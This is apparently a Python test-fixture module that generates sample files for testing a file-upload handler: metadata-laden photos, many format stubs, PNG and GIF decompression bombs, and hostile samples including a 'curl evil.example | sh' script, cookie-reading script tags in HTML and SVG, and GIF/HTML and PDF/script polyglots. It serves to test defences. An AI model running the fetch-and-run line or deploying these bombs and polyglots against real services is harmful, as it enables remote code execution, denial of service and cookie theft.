"""Files made for the tests: good ones, odd ones and hostile ones."""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image, ImageCms, PngImagePlugin

PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


async def stream(content: bytes, size: int = 60_000):
    for at in range(0, len(content), size):
        yield content[at : at + size]


def picture(width=64, height=48, mode="RGB"):
    """Noise, so that nothing compresses to nothing."""
    made = random.Random(width * height)
    bands = len(Image.new(mode, (1, 1)).getbands())
    return Image.frombytes(mode, (width, height), made.randbytes(width * height * bands))


def saved(image, kind, **options):
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def png(*size, mode="RGB", **options):
    return saved(picture(*size, mode=mode), "PNG", **options)


def photo_with_position():
    """A JPEG as a phone makes it: turned, with GPS position, maker and a comment."""
    image = picture(80, 40)
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "PhoneMaker", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 28.0, 25.0)})
    return saved(image, "JPEG", exif=exif, comment=b"home address")


XMP = (b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Orientation="6" note="home address"/></rdf:RDF></x:xmpmeta>')


def tagged(kind):
    """Turned by EXIF, with an XMP packet, a colour profile or text beside the pixels, as the format allows."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "PhoneMaker"
    image = picture(80, 40)
    if kind == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_itxt("XML:com.adobe.xmp", XMP.decode())
        text.add_text("Comment", "home address", zip=True)
        return saved(image, "PNG", exif=exif, pnginfo=text, icc_profile=PROFILE)
    if kind == "MPO":
        return saved(image, "MPO", save_all=True, append_images=[image.rotate(90)], exif=exif)
    return saved(image, kind, exif=exif, xmp=XMP, icc_profile=PROFILE)


def moving(frames=5, size=(60, 40), kind="GIF"):
    first, *rest = (picture(*size).rotate(3 * n) for n in range(frames))
    return saved(first, kind, save_all=True, append_images=rest, duration=80, loop=0)


def large_moving(frames=30, size=(1000, 800)):
    """Few bytes, many pixels: 24 million at the sizes given here."""
    first, *rest = (Image.new("P", size, n) for n in range(frames))
    return saved(first, "GIF", save_all=True, append_images=rest, duration=80)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_bomb(width=50_000, height=50_000):
    """One colour, 1 bit a pixel: 2.5 thousand million pixels in about 300 kB."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(packer.compress(row * 500) for _ in range(height // 500)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def gif_bomb(frames=20_000):
    """Very many tiny frames."""
    head = b"GIF89a" + struct.pack("<HHBBB", 500, 500, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * frames + b";"


def zip_of(files, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
MP4 = b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2" + b"\0\0\0\x08mdat" + bytes(200)
SAFARI_VOICE = b"\0\0\0\x1cftypiso5\0\0\0\x01isomiso5hlsf" + bytes(200)
MOV = b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(200)
M4A = b"\0\0\0\x18ftypM4A \0\0\x02\0isomiso2" + bytes(200)
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(200)
WEBM = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm" + bytes(200)
OGG = b"OggS\0\x02" + bytes(20) + b"OpusHead" + bytes(200)
WAV = b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0" + bytes(200)
MP3 = b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\0" + bytes(200)
EML = b"From: ana@demo-exchange.example\r\nTo: mei.lin@example.com\r\nSubject: hello\r\n\r\n<html>text</html>\r\n"
HAR = b'{"log": {"version": "1.2", "entries": []}}'
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(300)
ELF = b"\x7fELF\x02\x01\x01" + bytes(300)
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(300)
SHELL = b"#!/bin/sh\ncurl evil.example | sh\n"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_HTML = b"GIF89a/*" + b"\0" * 4 + b"*/=1;/*<html><script>alert(1)</script>*/"
PDF_IN_SCRIPT = b"/*\n%PDF-1.4\n*/ alert(1) //\n" * 5
